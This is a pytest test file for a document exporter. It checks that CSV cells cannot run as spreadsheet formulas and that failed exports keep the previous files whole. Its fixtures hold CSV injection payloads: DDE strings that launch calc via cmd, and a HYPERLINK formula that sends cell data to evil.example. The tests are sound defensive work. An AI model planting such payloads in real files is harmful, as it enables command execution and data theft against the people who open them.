"""Exports are atomic (a failed one leaves the previous file whole) and CSV cells never run as formulas."""

from __future__ import annotations

import dataclasses
import errno
import json
from pathlib import Path

import pandas as pd
import pytest

from thidua.errors import StorageError

HOSTILE_PATH = "=cmd|' -C calc'!A0.txt"
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


@pytest.fixture
def hostile_store(store, plans):
    doc = dataclasses.replace(plans.document(1), source_path=HOSTILE_PATH)
    store.save(doc, plans.restored(doc), plans.extraction(title=HOSTILE_TITLE, number="+1/KH-UBND"))
    doc = plans.document(2)
    store.save(doc, plans.restored(doc), plans.extraction(issuer="@SUM(1+1)*cmd|' /C calc'!A0"))
    return store


def test_csv_cells_that_would_run_are_neutralised(hostile_store, tmp_path: Path) -> None:
    hostile_store.export("csv", tmp_path)
    documents = pd.read_csv(tmp_path / "documents.csv", dtype=str)
    assert list(documents["source_path"]) == ["'" + HOSTILE_PATH, "/in/plan-2.pdf"]
    assert documents["title"][0] == "'" + HOSTILE_TITLE
    assert documents["number"][0] == "'+1/KH-UBND"
    assert documents["issuer"][1].startswith("'@SUM")
    starts = ("=", "+", "-", "@", "\t", "\r")
    for table in tmp_path.glob("*.csv"):
        cells = pd.read_csv(table, dtype=str, keep_default_na=False).to_numpy().ravel()
        assert not [c for c in cells if c.startswith(starts)], table.name


def test_parquet_and_jsonl_keep_values_exact(hostile_store, tmp_path: Path) -> None:
    hostile_store.export("parquet", tmp_path)
    assert pd.read_parquet(tmp_path / "documents.parquet")["source_path"][0] == HOSTILE_PATH
    [path] = hostile_store.export("jsonl", tmp_path / "out.jsonl")
    assert json.loads(path.read_text(encoding="utf-8").splitlines()[0])["source_path"] == HOSTILE_PATH


class _FullDisk:
    """json as the exporter uses it, but the disk fills up after `after` lines."""

    def __init__(self, after: int) -> None:
        self.left = after

    def dumps(self, *args, **kwargs) -> str:
        if self.left == 0:
            raise OSError(errno.ENOSPC, "No space left on device")
        self.left -= 1
        return json.dumps(*args, **kwargs)


def test_a_failed_jsonl_export_keeps_the_previous_file(exported_twice, tmp_path: Path, monkeypatch) -> None:
    store, target = exported_twice
    before = target.read_bytes()
    monkeypatch.setattr("thidua.corpus.export.json", _FullDisk(after=1))
    with pytest.raises(StorageError, match="No space left"):
        store.export("jsonl", target)
    assert target.read_bytes() == before
    assert sorted(p.name for p in target.parent.iterdir()) == [target.name]  # no temporary file left


def test_a_failed_csv_export_keeps_the_previous_tables(exported_twice, tmp_path: Path, monkeypatch) -> None:
    store, _ = exported_twice
    folder = tmp_path / "tables"
    store.export("csv", folder)
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    real = pd.DataFrame.to_csv

    def half_then_full(frame, path, **kwargs):
        real(frame.head(1), path, **kwargs)
        raise OSError(errno.EFBIG, "File too large")

    monkeypatch.setattr(pd.DataFrame, "to_csv", half_then_full)
    with pytest.raises(StorageError, match="File too large"):
        store.export("csv", folder)
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == before


@pytest.fixture
def exported_twice(store, plans, tmp_path: Path):
    for n in range(3):
        doc = plans.document(n)
        store.save(doc, plans.restored(doc), plans.extraction(number=f"{n}/KH-UBND"))
    out = tmp_path / "jsonl"
    out.mkdir()
    [target] = store.export("jsonl", out / "records.jsonl")
    assert len(target.read_text(encoding="utf-8").splitlines()) == 3
    return store, target
